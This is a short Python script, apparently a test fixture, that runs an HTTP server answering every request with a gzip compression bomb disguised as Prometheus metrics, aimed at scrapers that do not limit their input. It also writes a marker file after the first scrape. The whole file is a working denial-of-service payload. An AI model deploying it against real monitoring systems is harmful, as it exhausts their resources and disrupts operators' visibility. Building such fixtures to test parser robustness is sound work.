"""Run in a pod until it is deleted: answer each scrape with a compression bomb.

The response has about 1,000 bytes and expands to 1 MiB, which a parser of the Prometheus format
that does not limit its input reads in more than a minute. The file /tmp/scraped exists after the
first request.
"""

import gzip
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path

PORT = 9400
BOMB = gzip.compress("#".ljust(2**20).encode() + "\N{ROCKET}".encode())


class Hostile(BaseHTTPRequestHandler):
    """Answers every request with the bomb."""

    def do_GET(self) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/plain; version=0.0.4")
        self.send_header("Content-Encoding", "gzip")
        self.send_header("Content-Length", str(len(BOMB)))
        self.end_headers()
        self.wfile.write(BOMB)
        Path("/tmp/scraped").write_text("ok", encoding="utf-8")


HTTPServer(("", PORT), Hostile).serve_forever()
